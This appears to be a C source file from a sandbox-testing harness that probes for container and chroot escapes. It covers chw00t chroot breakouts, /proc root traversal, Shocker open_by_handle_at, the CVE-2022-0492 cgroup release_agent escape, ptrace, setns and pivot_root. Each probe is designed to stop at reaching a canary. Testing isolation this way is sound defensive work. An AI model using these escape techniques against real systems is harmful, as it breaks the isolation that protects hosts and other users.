/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Escape attempts.  Each one stops at the proof (a canary reached with read-only steps), because
 * under a negative control run as root it succeeds for real.  chroot() changes only this process's
 * root, so the chroot escapes are safe to attempt anywhere.
 */
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

/*
 * chw00t #0, the classic: chroot into a subdirectory while the working directory stays above it,
 * walk `..` past the new root (the kernel only stops `..` at the process's root, which the cwd is
 * no longer under), then chroot(".") there.  The target is the empty directory DIR/empty the
 * harness made, so nothing is created.  Then try to reach the host file canary.
 */
int
sp_verb_escape_chroot(const struct sp_verb_call *v)
{
	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file");
	if (dir == NULL || canary == NULL)
		return sp_cannot(v, "needs the dir= option and the file canary");
	char target[4096];
	snprintf(target, sizeof target, "%s/empty", dir);
	if (chdir(dir) != 0)
		return sp_cannot(v, "chdir '%s': %s", dir, sp_errname(errno));
	if (chroot(target) != 0) {
		sp_kv(v, "chroot", "%s", sp_errname(errno));
	} else {
		sp_kv(v, "chroot", "ok");
		for (int i = 0; i < 64; i++)
			if (chdir("..") != 0)
				break;
		sp_kv(v, "chroot-dot", "%s", chroot(".") == 0 ? "ok" : sp_errname(errno));
	}
	return sp_probe_file_canary(v, canary, sp_opt("canary.file.id"));
}

/* chw00t #1: the same with a descriptor of the working directory saved before the chroot. */
int
sp_verb_escape_chroot_fd(const struct sp_verb_call *v)
{
	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file");
	if (dir == NULL || canary == NULL)
		return sp_cannot(v, "needs the dir= option and the file canary");
	char target[4096];
	snprintf(target, sizeof target, "%s/empty", dir);
	int fd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return sp_cannot(v, "open '%s': %s", dir, sp_errname(errno));
	if (chroot(target) != 0) {
		sp_kv(v, "chroot", "%s", sp_errname(errno));
	} else {
		sp_kv(v, "chroot", "ok");
		if (fchdir(fd) == 0)
			for (int i = 0; i < 64; i++)
				if (chdir("..") != 0)
					break;
		sp_kv(v, "chroot-dot", "%s", chroot(".") == 0 ? "ok" : sp_errname(errno));
	}
	close(fd);
	return sp_probe_file_canary(v, canary, sp_opt("canary.file.id"));
}

/*
 * chw00t #3: /proc/PID/root and /proc/PID/cwd of every visible process; a process whose root is
 * outside the sandbox leads to the file canary through its root.  Read-only (stat, open O_RDONLY).
 */
struct proc_roots {
	const char *canary, *id;
	unsigned tried;
	char via[64];
};

/* Through the process's root; and from its cwd, `..` past our root when the cwd is outside. */
static bool
try_proc_root(const char *pid, void *arg)
{
	struct proc_roots *x = arg;
	char path[8192], up[200] = "";
	struct stat st;
	for (int i = 0; i < 48; i++)
		strcat(up, "../");
	snprintf(path, sizeof path, "/proc/%s/root%s", pid, x->canary);
	x->tried++;
	if (stat(path, &st) == 0 && sp_id_matches(x->id, &st))
		snprintf(x->via, sizeof x->via, "/proc/%.16s/root", pid);
	snprintf(path, sizeof path, "/proc/%s/cwd/%s%s", pid, up, x->canary + 1);
	if (!x->via[0] && stat(path, &st) == 0 && sp_id_matches(x->id, &st))
		snprintf(x->via, sizeof x->via, "/proc/%.16s/cwd", pid);
	return x->via[0] == '\0';
}

int
sp_verb_escape_proc_roots(const struct sp_verb_call *v)
{
	struct proc_roots x = {.canary = sp_opt("canary.file"), .id = sp_opt("canary.file.id")};
	if (x.canary == NULL)
		return sp_cannot(v, "needs the file canary");
	int r = sp_each_pid(try_proc_root, &x);
	if (r < 0)
		return sp_cannot(v, "opendir /proc: %s", sp_errname(-r));
	sp_kv(v, "tried", "%u", x.tried);
	sp_kv(v, "reached", "%d", x.via[0] != '\0');
	sp_kv(v, "how", "%s", x.via[0] ? x.via : "none");
	return SP_OBSERVED;
}

/*
 * Can the sandboxed process create a user namespace (nested)?  Tried in a forked child, which
 * exits at once: nothing changes for the probe.  A chrooted process is refused by the kernel
 * (EPERM), which Chromium relies on ("CannotRegainPrivileges").
 */
int
sp_verb_userns_nest(const struct sp_verb_call *v)
{
	pid_t pid = fork();
	if (pid < 0)
		return sp_cannot(v, "fork: %s", sp_errname(errno));
	if (pid == 0)
		_exit(unshare(CLONE_NEWUSER) == 0 ? 0 : (errno & 0xff));
	int st;
	if (waitpid(pid, &st, 0) != pid || !WIFEXITED(st))
		return sp_cannot(v, "child did not exit");
	sp_kv(v, "result", "%s", WEXITSTATUS(st) == 0 ? "ok" : sp_errname(WEXITSTATUS(st)));
	return SP_OBSERVED;
}

/* PTRACE_SEIZE of the canary process: success is the reach (it never stops the canary). */
int
sp_verb_ptrace_canary(const struct sp_verb_call *v)
{
	const char *pid = sp_opt("canary.pid");
	if (pid == NULL)
		return sp_cannot(v, "the harness planted no canary.pid");
	long r = ptrace(PTRACE_SEIZE, (pid_t)atoi(pid), NULL, NULL);
	int e = errno;
	if (r == 0)
		ptrace(PTRACE_DETACH, (pid_t)atoi(pid), NULL, NULL);
	sp_kv(v, "reached", "%d", r == 0);
	sp_kv(v, "how", "%s", r == 0 ? "seized" : sp_errname(e));
	return SP_OBSERVED;
}

/* process_vm_readv of one byte at address 0 of the canary: EFAULT proves access, ESRCH/EPERM not.
 */
int
sp_verb_vmread_canary(const struct sp_verb_call *v)
{
	const char *pid = sp_opt("canary.pid");
	if (pid == NULL)
		return sp_cannot(v, "the harness planted no canary.pid");
	char byte;
	struct iovec local = {&byte, 1}, remote = {NULL, 1};
	ssize_t r = process_vm_readv((pid_t)atoi(pid), &local, 1, &remote, 1, 0);
	int e = errno;
	bool reached = r >= 0 || e == EFAULT;
	sp_kv(v, "reached", "%d", reached);
	sp_kv(v, "how", "%s", r >= 0 ? "read" : sp_errname(e));
	return SP_OBSERVED;
}

/*
 * chw00t #3 with a procfs of one's own: mount a fresh procfs read-only on DIR/mnt (only outside the
 * host's mount namespace) and walk its PID/root links to the file canary.
 */
int
sp_verb_escape_fresh_proc(const struct sp_verb_call *v)
{
	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file"),
		   *id = sp_opt("canary.file.id");
	if (dir == NULL || canary == NULL)
		return sp_cannot(v, "needs the dir= option and the file canary");
	if (!sp_ns_differs_from_host(v, "mnt")) {
		sp_kv(v, "mount", "refused");
		return SP_OBSERVED;
	}
	char target[4096];
	snprintf(target, sizeof target, "%s/mnt", dir);
	if (mount("proc", target, "proc", MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) !=
	    0) {
		sp_kv(v, "mount", "%s", sp_errname(errno));
		sp_kv(v, "reached", "0");
		return SP_OBSERVED;
	}
	sp_kv(v, "mount", "ok");
	char via[64] = "";
	DIR *d = opendir(target);
	for (struct dirent *e; d && (e = readdir(d)) != NULL && !via[0];) {
		char path[8192];
		struct stat st;
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof path, "%s/%s/root%s", target, e->d_name, canary);
		if (stat(path, &st) == 0 && sp_id_matches(id, &st))
			snprintf(via, sizeof via, "fresh /proc/%.16s/root", e->d_name);
	}
	if (d)
		closedir(d);
	umount2(target, MNT_DETACH);
	sp_kv(v, "reached", "%d", via[0] != '\0');
	sp_kv(v, "how", "%s", via[0] ? via : "none");
	return SP_OBSERVED;
}

/* umount2("/", MNT_DETACH) to uncover what is below the root; only in a private mount ns. */
int
sp_verb_escape_umount_root(const struct sp_verb_call *v)
{
	const char *canary = sp_opt("canary.file");
	if (canary == NULL)
		return sp_cannot(v, "needs the file canary");
	if (!sp_ns_differs_from_host(v, "mnt")) {
		sp_kv(v, "umount", "refused");
		return SP_OBSERVED;
	}
	if (chdir("/") != 0)
		return sp_cannot(v, "chdir /: %s", sp_errname(errno));
	sp_kv(v, "umount", "%s", umount2("/", MNT_DETACH) == 0 ? "ok" : sp_errname(errno));
	return sp_probe_file_canary(v, canary, sp_opt("canary.file.id"));
}

/*
 * "Shocker": open_by_handle_at with the file canary's handle (computed by the harness with
 * name_to_handle_at, passed as canary.file.handle=TYPE:HEX), relative to the probe directory,
 * which sits on the same file system.  Needs CAP_DAC_READ_SEARCH in the initial user namespace.
 */
int
sp_verb_escape_handle(const struct sp_verb_call *v)
{
	const char *dir = sp_probe_dir(), *h = sp_opt("canary.file.handle");
	if (dir == NULL || h == NULL)
		return sp_cannot(v, "needs the dir= option and canary.file.handle");
	union {
		struct file_handle fh;
		char buf[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u;
	int type;
	char hex[2 * MAX_HANDLE_SZ + 1];
	if (sscanf(h, "%d:%256s", &type, hex) != 2 || strlen(hex) % 2 ||
	    strlen(hex) / 2 > MAX_HANDLE_SZ)
		return sp_cannot(v, "bad canary.file.handle '%s'", h);
	u.fh.handle_type = type;
	u.fh.handle_bytes = (unsigned)(strlen(hex) / 2);
	for (unsigned i = 0; i < u.fh.handle_bytes; i++) {
		unsigned byte;
		if (sscanf(hex + 2 * i, "%2x", &byte) != 1)
			return sp_cannot(v, "bad canary.file.handle '%s'", h);
		u.fh.f_handle[i] = (unsigned char)byte;
	}
	int mfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0)
		return sp_cannot(v, "open '%s': %s", dir, sp_errname(errno));
	int fd = open_by_handle_at(mfd, &u.fh, O_RDONLY | O_CLOEXEC);
	int e = errno;
	close(mfd);
	if (fd >= 0) {
		struct stat st;
		bool same = fstat(fd, &st) == 0 && sp_id_matches(sp_opt("canary.file.id"), &st);
		close(fd);
		sp_kv(v, "reached", "%d", same);
		sp_kv(v, "how", "%s", same ? "opened-by-handle" : "other-file");
	} else {
		sp_kv(v, "reached", "0");
		sp_kv(v, "how", "%s", sp_errname(e));
	}
	return SP_OBSERVED;
}

/*
 * setns into the canary process's namespace TYPE.  Opening /proc/PID/ns/TYPE already proves the
 * process is reachable; the setns itself is made only when this process's TYPE namespace is not
 * the host's (from the host's own namespace there is nothing to escape to, and the safety gates
 * of every later verb compare against the host's inodes, so they refuse after a successful join).
 */
int
sp_verb_setns_canary(const struct sp_verb_call *v)
{
	const char *pid = sp_opt("canary.pid");
	if (pid == NULL)
		return sp_cannot(v, "the harness planted no canary.pid");
	char path[128];
	snprintf(path, sizeof path, "/proc/%.16s/ns/%.16s", pid, v->arg);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		sp_kv(v, "open", "%s", sp_errname(errno));
		sp_kv(v, "reached", "0");
		return SP_OBSERVED;
	}
	sp_kv(v, "open", "ok");
	if (sp_ns_differs_from_host(v, v->arg))
		sp_kv(v, "setns", "%s", setns(fd, 0) == 0 ? "ok" : sp_errname(errno));
	close(fd);
	sp_kv(v, "reached", "1");
	return SP_OBSERVED;
}

/* The child of escape-release-agent: exit 0 when release_agent opened for writing, else errno. */
static int
release_agent_child(const char *target, const char *controller)
{
	uid_t uid = getuid();
	gid_t gid = getgid();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0)
		return 100 + (errno & 0x7f);
	char map[64];
	sp_write_proc(0, "setgroups", "deny");
	snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
	sp_write_proc(0, "uid_map", map);
	snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
	sp_write_proc(0, "gid_map", map);
	/* The mount below lands in this child's new mount namespace, owned by its new user
	 * namespace (so never propagated back); checked, not assumed. */
	if (!sp_ns_private("mnt"))
		return 99;
	if (mount("cgroup", target, "cgroup", MS_NOSUID | MS_NODEV | MS_NOEXEC, controller) != 0)
		return errno & 0x7f;
	char path[4200];
	snprintf(path, sizeof path, "%s/release_agent", target);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	int e = errno;
	if (fd >= 0)
		close(fd);
	umount2(target, MNT_DETACH);
	return fd >= 0 ? 0 : 50 + (e & 0x3f);
}

/*
 * CVE-2022-0492: in a fresh user, mount and cgroup namespace, mount a cgroup v1 hierarchy and open
 * its release_agent for writing (never written).  Any success is the failure; a refusal at any
 * step is the pass.  Done in a forked child whose mount namespace is checked to be new.
 */
int
sp_verb_escape_release_agent(const struct sp_verb_call *v)
{
	const char *dir = sp_probe_dir();
	if (dir == NULL)
		return sp_cannot(v, "needs the dir= option");
	static const char *const controllers[] = {"rdma", "memory", "pids", "cpu"};
	char target[4096];
	snprintf(target, sizeof target, "%s/mnt", dir);
	bool reached = false;
	for (size_t i = 0; i < sizeof controllers / sizeof controllers[0] && !reached; i++) {
		pid_t pid = fork();
		if (pid < 0)
			return sp_cannot(v, "fork: %s", sp_errname(errno));
		if (pid == 0)
			_exit(release_agent_child(target, controllers[i]));
		int st;
		if (waitpid(pid, &st, 0) != pid || !WIFEXITED(st))
			return sp_cannot(v, "child did not exit");
		int c = WEXITSTATUS(st);
		char key[64];
		snprintf(key, sizeof key, "%s", controllers[i]);
		if (c == 0) {
			reached = true;
			sp_kv(v, key, "release_agent-opened");
		} else if (c == 99) {
			sp_kv(v, key, "refused: mount namespace not new");
		} else if (c >= 100) {
			sp_kv(v, key, "unshare %s", sp_errname(c - 100));
		} else if (c >= 50) {
			sp_kv(v, key, "open %s", sp_errname(c - 50));
		} else {
			sp_kv(v, key, "mount %s", sp_errname(c));
		}
	}
	sp_kv(v, "reached", "%d", reached);
	return SP_OBSERVED;
}

/* Walk `..` from the working directory as far as the kernel lets us, then chroot(".") there. */
static void
walk_up_and_chroot(const struct sp_verb_call *v)
{
	for (int i = 0; i < 64; i++)
		if (chdir("..") != 0)
			break;
	sp_kv(v, "chroot-dot", "%s", chroot(".") == 0 ? "ok" : sp_errname(errno));
}

static int
send_fd(int sock, int fd)
{
	char byte = 'f';
	struct iovec iov = {&byte, 1};
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} u;
	memset(&u, 0, sizeof u);
	struct msghdr m = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof fd);
	return sendmsg(sock, &m, 0) == 1 ? 0 : -1;
}

static int
recv_fd(int sock)
{
	char byte;
	struct iovec iov = {&byte, 1};
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} u;
	struct msghdr m = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof u.buf};
	if (recvmsg(sock, &m, MSG_CMSG_CLOEXEC) != 1)
		return -1;
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	if (c == NULL || c->cmsg_type != SCM_RIGHTS)
		return -1;
	int fd;
	memcpy(&fd, CMSG_DATA(c), sizeof fd);
	return fd;
}

/*
 * chw00t #2: a descriptor passed between nested chroots.  A child chroots into DIR/empty and
 * then receives, over a socketpair (SCM_RIGHTS), a descriptor of this process's `/`, which lies
 * above the child's new root; it fchdirs there, walks `..` and chroots `.`, then tries the file
 * canary.  The child prints the keys and exits; nothing changes for the probe.
 */
int
sp_verb_escape_chroot_pass_fd(const struct sp_verb_call *v)
{
	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file");
	if (dir == NULL || canary == NULL)
		return sp_cannot(v, "needs the dir= option and the file canary");
	int sv[2];
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) != 0)
		return sp_cannot(v, "socketpair: %s", sp_errname(errno));
	pid_t pid = fork();
	if (pid < 0)
		return sp_cannot(v, "fork: %s", sp_errname(errno));
	if (pid == 0) {
		char target[4096], ready = 'r';
		close(sv[0]);
		snprintf(target, sizeof target, "%s/empty", dir);
		if (chroot(target) == 0 && chdir("/") == 0)
			sp_kv(v, "chroot", "ok");
		else
			sp_kv(v, "chroot", "%s", sp_errname(errno));
		int fd = -1;
		if (write(sv[1], &ready, 1) == 1)
			fd = recv_fd(sv[1]);
		sp_kv(v, "received", "%s", fd >= 0 ? "ok" : "none");
		if (fd >= 0 && fchdir(fd) == 0)
			walk_up_and_chroot(v);
		sp_probe_file_canary(v, canary, sp_opt("canary.file.id"));
		_exit(0);
	}
	close(sv[1]);
	char ready;
	int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (read(sv[0], &ready, 1) == 1 && root >= 0)
		send_fd(sv[0], root);
	if (root >= 0)
		close(root);
	close(sv[0]);
	if (!sp_wait_child(pid))
		return sp_cannot(v, "child did not exit");
	return SP_OBSERVED;
}

/*
 * chw00t #5, move-out-of-chroot: a child chroots into SCRATCH/sp-mv-NONCE/a and settles in its
 * subdirectory b; this process, outside that chroot, renames a/b to sp-mv-NONCE/b, above the
 * child's root.  The child's working directory is now outside its root: it walks `..`, chroots
 * `.` and tries the file canary.  The directories are removed afterwards.
 */
int
sp_verb_escape_chroot_move(const struct sp_verb_call *v)
{
	const char *scratch = sp_scratch_dir(), *canary = sp_opt("canary.file"),
		   *nonce = sp_opt("nonce");
	if (scratch == NULL || canary == NULL || nonce == NULL)
		return sp_cannot(v, "needs a scratch directory, the nonce and the file canary");
	char top[4096], a[4200], ab[4300], b[4200];
	snprintf(top, sizeof top, "%s/sp-mv-%.16s", scratch, nonce);
	snprintf(a, sizeof a, "%s/a", top);
	snprintf(ab, sizeof ab, "%s/a/b", top);
	snprintf(b, sizeof b, "%s/b", top);
	if (mkdir(top, 0700) != 0 || mkdir(a, 0700) != 0 || mkdir(ab, 0700) != 0) {
		int e = errno;
		rmdir(ab), rmdir(a), rmdir(top);
		return sp_cannot(v, "mkdir under '%s': %s", scratch, sp_errname(e));
	}
	int sv[2];
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) != 0)
		return sp_cannot(v, "socketpair: %s", sp_errname(errno));
	pid_t pid = fork();
	if (pid < 0)
		return sp_cannot(v, "fork: %s", sp_errname(errno));
	if (pid == 0) {
		char c = 'r';
		close(sv[0]);
		if (chdir(ab) == 0 && chroot(a) == 0)
			sp_kv(v, "chroot", "ok");
		else
			sp_kv(v, "chroot", "%s", sp_errname(errno));
		/* tell the parent to move b out, and wait until it did */
		if (write(sv[1], &c, 1) == 1 && read(sv[1], &c, 1) == 1)
			walk_up_and_chroot(v);
		sp_probe_file_canary(v, canary, sp_opt("canary.file.id"));
		_exit(0);
	}
	close(sv[1]);
	char c;
	if (read(sv[0], &c, 1) == 1) {
		sp_kv(v, "move", "%s", rename(ab, b) == 0 ? "ok" : sp_errname(errno));
		if (write(sv[0], &c, 1) != 1)
			(void)0;
	}
	close(sv[0]);
	bool ok = sp_wait_child(pid);
	rmdir(ab), rmdir(b), rmdir(a), rmdir(top);
	return ok ? SP_OBSERVED : sp_cannot(v, "child did not exit");
}

/* The file system type of the mount that holds device DEV, from /proc/self/mountinfo. */
static bool
fstype_of_dev(unsigned maj, unsigned min, char *type, size_t size)
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	if (f == NULL)
		return false;
	char line[4096];
	bool found = false;
	while (!found && fgets(line, sizeof line, f)) {
		unsigned a, b;
		char *sep = strstr(line, " - ");
		if (sscanf(line, "%*s %*s %u:%u", &a, &b) == 2 && a == maj && b == min && sep &&
		    sscanf(sep + 3, "%63s", type) == 1)
			found = size > 0;
	}
	fclose(f);
	return found;
}

/*
 * chw00t #4: make a block device node for the device that holds the file canary and mount it
 * read-only on DIR/mnt, then look for the canary in it (every suffix of its path, since the mount
 * shows the whole file system).  Only outside the host's mount namespace; the node is removed at
 * once and the mount detached; nothing is ever written to the device.
 */
int
sp_verb_escape_blockdev(const struct sp_verb_call *v)
{
	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file"),
		   *id = sp_opt("canary.file.id"), *scratch = sp_scratch_dir(),
		   *nonce = sp_opt("nonce");
	unsigned maj, min;
	if (dir == NULL || canary == NULL || id == NULL || nonce == NULL ||
	    sscanf(id, "%u:%u:", &maj, &min) != 2)
		return sp_cannot(v, "needs the dir= option and the file canary with its id");
	if (!sp_ns_differs_from_host(v, "mnt")) {
		sp_kv(v, "mknod", "refused");
		return SP_OBSERVED;
	}
	if (scratch == NULL)
		return sp_cannot(v, "no scratch directory");
	char node[4200], target[4200], type[64] = "ext4";
	snprintf(node, sizeof node, "%s/sp-blk-%.16s", scratch, nonce);
	snprintf(target, sizeof target, "%s/mnt", dir);
	if (mknod(node, S_IFBLK | 0400, makedev(maj, min)) != 0) {
		sp_kv(v, "mknod", "%s", sp_errname(errno));
		sp_kv(v, "reached", "0");
		sp_kv(v, "how", "mknod-refused");
		return SP_OBSERVED;
	}
	sp_kv(v, "mknod", "ok");
	fstype_of_dev(maj, min, type, sizeof type);
	int m = mount(node, target, type, MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
	int e = errno;
	unlink(node);
	sp_kv(v, "mount", "%s", m == 0 ? "ok" : sp_errname(e));
	bool found = false;
	for (const char *p = canary; m == 0 && p && !found; p = strchr(p + 1, '/')) {
		char path[8400];
		struct stat st;
		snprintf(path, sizeof path, "%s%s", target, p);
		found = stat(path, &st) == 0 && sp_id_matches(id, &st);
	}
	if (m == 0)
		umount2(target, MNT_DETACH);
	sp_kv(v, "reached", "%d", found);
	sp_kv(v, "how", "%s", found ? "mounted-device" : m == 0 ? "not-found" : "mount-refused");
	return SP_OBSERVED;
}

/* Enter a new user and mount namespace (mapped to the current ids); true when the mount
 * namespace is then known to be private. */
static bool
enter_private_mntns(void)
{
	uid_t uid = getuid();
	gid_t gid = getgid();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
		return false;
	char map[64];
	sp_write_proc(0, "setgroups", "deny");
	snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
	sp_write_proc(0, "uid_map", map);
	snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
	sp_write_proc(0, "gid_map", map);
	return sp_ns_private("mnt");
}

/*
 * pivot_root to uncover the old root: a child enters a user and mount namespace of its own
 * (checked private, so nothing it does reaches the probe or the host), mounts a small tmpfs on
 * DIR/mnt, pivots onto it with the old root put on its `old` directory, and tries the file canary
 * under /old: what the sandbox's root mount was laid over, if anything of the host.
 */
int
sp_verb_escape_pivot_root(const struct sp_verb_call *v)
{
	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file"),
		   *id = sp_opt("canary.file.id");
	if (dir == NULL || canary == NULL)
		return sp_cannot(v, "needs the dir= option and the file canary");
	pid_t pid = fork();
	if (pid < 0)
		return sp_cannot(v, "fork: %s", sp_errname(errno));
	if (pid == 0) {
		char target[4096], old[4200], path[8192];
		snprintf(target, sizeof target, "%s/mnt", dir);
		snprintf(old, sizeof old, "%s/old", target);
		snprintf(path, sizeof path, "/old%s", canary);
		const char *step = "unshare";
		if (!enter_private_mntns())
			goto refused;
		step = "mount";
		if (mount("sp-pivot", target, "tmpfs", MS_NOSUID | MS_NODEV, "size=16k,mode=700") !=
		    0)
			goto refused;
		step = "mkdir";
		if (mkdir(old, 0700) != 0)
			goto refused;
		step = "pivot_root";
		if (syscall(SYS_pivot_root, target, old) != 0)
			goto refused;
		sp_kv(v, "pivot", "ok");
		struct stat st;
		bool reached = chdir("/") == 0 && stat(path, &st) == 0 && sp_id_matches(id, &st);
		sp_kv(v, "reached", "%d", reached);
		sp_kv(v, "how", "%s", reached ? "old-root" : sp_errname(errno));
		_exit(0);
	refused:
		sp_kv(v, "pivot", "%s %s", step, sp_errname(errno));
		sp_kv(v, "reached", "0");
		_exit(0);
	}
	return sp_wait_child(pid) ? SP_OBSERVED : sp_cannot(v, "child did not exit");
}

/*
 * Privileges regained through a nested user namespace.  First Chromium's CannotRegainPrivileges:
 * a child chroots into DIR/empty and tries unshare(CLONE_NEWUSER), which the kernel refuses a
 * chrooted task (`regained=1` when both succeed).  Then the use a sandboxed process would make of
 * a nested user namespace: a second child creates one (mapped to its own ids), and with the
 * CAP_SYS_CHROOT it holds there makes the classic chroot escape (chroot DIR/empty with the working
 * directory left outside, `..`, chroot `.`) and tries the file canary.
 */
int
sp_verb_userns_after_chroot(const struct sp_verb_call *v)
{
	const char *dir = sp_probe_dir(), *canary = sp_opt("canary.file");
	if (dir == NULL || canary == NULL)
		return sp_cannot(v, "needs the dir= option and the file canary");
	char target[4096];
	snprintf(target, sizeof target, "%s/empty", dir);
	pid_t pid = fork();
	if (pid < 0)
		return sp_cannot(v, "fork: %s", sp_errname(errno));
	if (pid == 0) {
		bool chrooted = chroot(target) == 0 && chdir("/") == 0;
		sp_kv(v, "chroot", "%s", chrooted ? "ok" : sp_errname(errno));
		bool unshared = unshare(CLONE_NEWUSER) == 0;
		sp_kv(v, "unshare", "%s", unshared ? "ok" : sp_errname(errno));
		sp_kv(v, "regained", "%d", chrooted && unshared);
		_exit(0);
	}
	if (!sp_wait_child(pid))
		return sp_cannot(v, "child did not exit");
	pid = fork();
	if (pid < 0)
		return sp_cannot(v, "fork: %s", sp_errname(errno));
	if (pid == 0) {
		uid_t uid = getuid();
		gid_t gid = getgid();
		bool nested = unshare(CLONE_NEWUSER) == 0;
		sp_kv(v, "nested-userns", "%s", nested ? "ok" : sp_errname(errno));
		if (nested) {
			char map[64];
			sp_write_proc(0, "setgroups", "deny");
			snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
			sp_write_proc(0, "uid_map", map);
			snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
			sp_write_proc(0, "gid_map", map);
		}
		if (chdir(dir) == 0 && chroot(target) == 0) {
			sp_kv(v, "nested-chroot", "ok");
			walk_up_and_chroot(v);
		} else {
			sp_kv(v, "nested-chroot", "%s", sp_errname(errno));
		}
		sp_probe_file_canary(v, canary, sp_opt("canary.file.id"));
		_exit(0);
	}
	return sp_wait_child(pid) ? SP_OBSERVED : sp_cannot(v, "child did not exit");
}

/* pidfd_open of the canary process: a descriptor is the reach. */
int
sp_verb_pidfd_canary(const struct sp_verb_call *v)
{
	const char *pid = sp_opt("canary.pid");
	if (pid == NULL)
		return sp_cannot(v, "the harness planted no canary.pid");
	int fd = (int)syscall(SYS_pidfd_open, (pid_t)atoi(pid), 0);
	int e = errno;
	if (fd >= 0)
		close(fd);
	sp_kv(v, "reached", "%d", fd >= 0);
	sp_kv(v, "how", "%s", fd >= 0 ? "pidfd" : sp_errname(e));
	return SP_OBSERVED;
}
